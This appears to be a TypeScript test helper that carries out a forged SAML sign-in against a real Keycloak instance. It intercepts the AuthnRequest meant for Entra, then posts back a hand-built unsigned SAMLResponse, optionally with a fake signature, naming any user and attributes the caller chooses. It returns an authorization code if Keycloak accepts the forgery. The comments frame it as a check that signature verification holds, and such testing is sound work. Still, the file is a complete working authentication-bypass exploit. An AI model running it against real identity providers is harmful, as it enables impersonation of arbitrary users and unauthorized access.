import { randomBytes } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { CookieJar } from './broker-login.js';

/**
 * An attacker's SAML sign-in through a real Keycloak: start a brokered login, take the
 * AuthnRequest Keycloak sends towards Entra (never fetched), and post back to Keycloak's broker
 * endpoint an UNSIGNED SAMLResponse written by hand, carrying whatever attributes the attacker
 * chooses. Whether Keycloak accepts it is the question the SAML signature check answers.
 */

export interface ForgeOptions {
  keycloakUrl: string;
  realm: string;
  alias: string;
  clientId: string;
  redirectUri: string;
  /** The provider's idpEntityId (the Response and Assertion issuer) and entityId (the audience). */
  idpEntityId: string;
  spEntityId: string;
  nameId: string;
  /** SAML attributes by Name. */
  attributes: Record<string, string[]>;
  /** Puts a made-up ds:Signature element (signed by nobody) into the assertion. */
  fakeSignature?: boolean;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const id = () => `_${randomBytes(16).toString('hex')}`;

/** The unsigned Response for the request `inResponseTo`, addressed to the broker endpoint `acs`. */
export function unsignedResponse(o: ForgeOptions, acs: string, inResponseTo: string): string {
  const now = new Date();
  const assertionId = id();
  const at = (ms: number) => new Date(now.getTime() + ms).toISOString();
  const attrs = Object.entries(o.attributes)
    .map(
      ([name, values]) =>
        `<saml:Attribute Name="${esc(name)}">${values.map((v) => `<saml:AttributeValue>${esc(v)}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
    )
    .join('');
  return (
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id()}" Version="2.0" IssueInstant="${now.toISOString()}" Destination="${esc(acs)}" InResponseTo="${esc(inResponseTo)}">` +
    `<saml:Issuer>${esc(o.idpEntityId)}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
    `<saml:Assertion ID="${assertionId}" Version="2.0" IssueInstant="${now.toISOString()}">` +
    `<saml:Issuer>${esc(o.idpEntityId)}</saml:Issuer>` +
    (o.fakeSignature
      ? `<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>` +
        `<ds:Reference URI="#${assertionId}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>` +
        `<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>${randomBytes(32).toString('base64')}</ds:DigestValue></ds:Reference></ds:SignedInfo>` +
        `<ds:SignatureValue>${randomBytes(256).toString('base64')}</ds:SignatureValue></ds:Signature>`
      : '') +
    `<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">${esc(o.nameId)}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData InResponseTo="${esc(inResponseTo)}" NotOnOrAfter="${at(300_000)}" Recipient="${esc(acs)}"/></saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${at(-60_000)}" NotOnOrAfter="${at(300_000)}"><saml:AudienceRestriction><saml:Audience>${esc(o.spEntityId)}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${now.toISOString()}" SessionIndex="${id()}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    `<saml:AttributeStatement>${attrs}</saml:AttributeStatement>` +
    `</saml:Assertion></samlp:Response>`
  );
}

/**
 * Runs the forged sign-in. Resolves with Keycloak's code for the client when Keycloak accepts
 * the unsigned response, or rejects with the page Keycloak answered instead.
 */
export async function forgedSamlLogin(o: ForgeOptions): Promise<{ code: string; trail: string[] }> {
  const jar = new CookieJar();
  const trail: string[] = [];
  const acs = `${o.keycloakUrl}/realms/${encodeURIComponent(o.realm)}/broker/${encodeURIComponent(o.alias)}/endpoint`;
  const start = new URL(`${o.keycloakUrl}/realms/${encodeURIComponent(o.realm)}/protocol/openid-connect/auth`);
  start.search = new URLSearchParams({
    client_id: o.clientId,
    redirect_uri: o.redirectUri,
    response_type: 'code',
    scope: 'openid',
    state: 'forged',
    kc_idp_hint: o.alias,
  }).toString();
  let request: { url: string; method: 'GET' | 'POST'; body?: URLSearchParams } = { url: start.toString(), method: 'GET' };
  let forged = false;
  for (let hop = 0; hop < 20; hop++) {
    trail.push(`${request.method} ${request.url.slice(0, 200)}`);
    const url = new URL(request.url);
    if (request.url.startsWith(o.redirectUri)) {
      const code = url.searchParams.get('code');
      if (code) return { code, trail };
      throw new Error(`Keycloak redirected to the client with ${url.searchParams.get('error')}\n${trail.join('\n')}`);
    }
    const samlRequest = url.searchParams.get('SAMLRequest');
    if (samlRequest && !forged) {
      // The hop to Entra (HTTP-Redirect binding): read the request id, answer as the attacker.
      const xml = inflateRawSync(Buffer.from(samlRequest, 'base64')).toString('utf8');
      const requestId = /\sID="([^"]+)"/.exec(xml)?.[1];
      if (!requestId) throw new Error(`no ID in the AuthnRequest: ${xml.slice(0, 300)}`);
      const body = new URLSearchParams({ SAMLResponse: Buffer.from(unsignedResponse(o, acs, requestId)).toString('base64') });
      const relay = url.searchParams.get('RelayState');
      if (relay) body.set('RelayState', relay);
      request = { url: acs, method: 'POST', body };
      forged = true;
      continue;
    }
    const headers: Record<string, string> = { Accept: 'text/html' };
    const cookie = jar.header(request.url);
    if (cookie) headers.Cookie = cookie;
    if (request.body) headers['Content-Type'] = 'application/x-www-form-urlencoded';
    const res = await fetch(request.url, { method: request.method, headers, body: request.body, redirect: 'manual' });
    jar.store(request.url, res);
    const location = res.headers.get('location');
    if (res.status >= 300 && res.status < 400 && location) {
      request = { url: new URL(location, request.url).toString(), method: 'GET' };
      continue;
    }
    const text = await res.text();
    const title = /<title>([^<]*)<\/title>/i.exec(text)?.[1]?.trim() ?? '';
    const feedback =
      /class="[^"]*(?:kc-feedback-text|alert|instruction)[^"]*"[^>]*>([\s\S]*?)</i.exec(text)?.[1]?.trim() ?? text.slice(0, 200);
    throw new Error(`forged SAML sign-in stopped at ${request.url} (HTTP ${res.status}): ${title} — ${feedback}\n${trail.join('\n')}`);
  }
  throw new Error(`forged SAML sign-in did not finish:\n${trail.join('\n')}`);
}
